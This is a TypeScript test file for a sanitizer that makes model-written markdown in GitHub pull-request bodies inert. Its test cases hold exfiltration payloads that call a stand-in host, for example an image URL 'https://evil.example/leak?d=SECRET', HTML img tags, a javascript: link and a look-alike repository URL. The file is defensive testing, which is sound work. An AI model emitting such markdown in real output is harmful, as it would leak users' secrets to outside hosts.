import { inertMarkdown } from '../../core/text/inert-markdown';

const repo = 'https://github.com/acme/widgets';
const inert = (text: string) => inertMarkdown(text, { allowedUrlPrefixes: [repo] });

/** What GitHub could fetch or link from rendered markdown: image targets, raw HTML, outside links. */
function fetchableOrLinked(markdown: string): string[] {
  const found: string[] = [];
  const outsideCode = markdown.replace(/```[\s\S]*?```/g, '').replace(/`[^`]*`/g, '');
  for (const m of outsideCode.matchAll(/(?<!\\)!\[[^\]]*\]\(([^)]*)\)/g)) found.push(`image ${m[1]}`);
  for (const m of outsideCode.matchAll(/<\s*[a-z!/]/gi)) found.push(`html ${m[0]}`);
  const inRepo = (url: string) => url === repo || (/^[/#?]/.test(url.slice(repo.length)) && url.startsWith(repo));
  for (const m of outsideCode.matchAll(/(?<!\\)\[[^\]]*\]\(([^)]*)\)/g))
    if (!inRepo(m[1]!) && /^[a-z][a-z0-9+.-]*:|^\/\/|^www\./i.test(m[1]!)) found.push(`link ${m[1]}`);
  for (const m of outsideCode.matchAll(/(?<!\\)^ {0,3}\[[^\]]+\]:/gm)) found.push(`definition ${m[0]}`);
  for (const m of outsideCode.matchAll(/(?:https?|ftp|data|javascript):\/\/?[^\s)]+|www\.[^\s)]+/gi))
    if (!inRepo(m[0])) found.push(`url ${m[0]}`);
  for (const m of outsideCode.matchAll(/(^|[^\w`])@[a-z0-9-]+/gi)) found.push(`mention ${m[0]}`);
  return found;
}

describe('model-written markdown in a PR body cannot make GitHub fetch or link outside the repository', () => {
  it.each([
    ['an image', '![x](https://evil.example/leak?d=SECRET)'],
    ['an image with a title', '![x](https://evil.example/a.png "t")'],
    ['a reference-style image', '![x][r]\n\n[r]: https://evil.example/leak'],
    ['an HTML img', '<img src="https://evil.example/p.png">'],
    ['HTML picture/source', '<picture><source srcset="https://evil.example/s.png"></picture>'],
    ['an uppercase HTML tag', '<IMG SRC=https://evil.example/x>'],
    ['an autolink', '<https://evil.example/leak>'],
    ['a link', '[docs](https://evil.example/leak)'],
    ['a protocol-relative link', '[docs](//evil.example/leak)'],
    ['a bare URL', 'see https://evil.example/leak for details'],
    ['a www autolink', 'see www.evil.example/leak'],
    ['a javascript link', '[x](javascript:alert(1))'],
    ['a look-alike of the repo host', '[x](https://github.com/acme/widgets@evil.example/)'],
    ['a mention', 'thanks @octocat and @acme/security'],
  ])('Given model-written %s, When it is made inert, Then nothing in it is fetched or linked outside the repository', (_what, text) => {
    // Given model-written text, When it is made inert, Then nothing in it is fetched or linked outside
    expect(fetchableOrLinked(text).length).toBeGreaterThan(0);
    const out = inert(text);
    expect(fetchableOrLinked(out)).toEqual([]);
  });

  it('Given links into the repository, relative links, code and plain prose, When they are made inert, Then they are kept as they are', () => {
    const text = [
      'Fixed [the parser](https://github.com/acme/widgets/blob/main/src/parse.ts#L10) and [its test](test/parse.test.ts).',
      'Run `npm test` — a <b> in `code <b>` stays.',
      '```html',
      '<img src="https://evil.example/in-code.png">',
      '```',
      'user@example.com is an e-mail address, not a mention.',
    ].join('\n');
    const out = inert(text);
    expect(out).toContain('[the parser](https://github.com/acme/widgets/blob/main/src/parse.ts#L10)');
    expect(out).toContain('[its test](test/parse.test.ts)');
    expect(out).toContain('`code <b>`');
    expect(out).toContain('<img src="https://evil.example/in-code.png">');
    expect(out).toContain('a &lt;b> in');
    expect(out).toContain('user@example.com');
  });

  it('Given an unterminated fence, When it is made inert, Then the rest is kept as code, which GitHub renders as text', () => {
    const out = inert('```\n![x](https://evil.example/a)');
    expect(out).toBe('```\n![x](https://evil.example/a)');
  });

  it('Given a link and an image outside, When they are made inert, Then they show what was neutralised, readable but inert', () => {
    expect(inert('[docs](https://evil.example/leak)')).toBe('docs (`https://evil.example/leak`)');
    expect(inert('![x](https://evil.example/a.png)')).toBe('image `x` (`https://evil.example/a.png`)');
  });
});
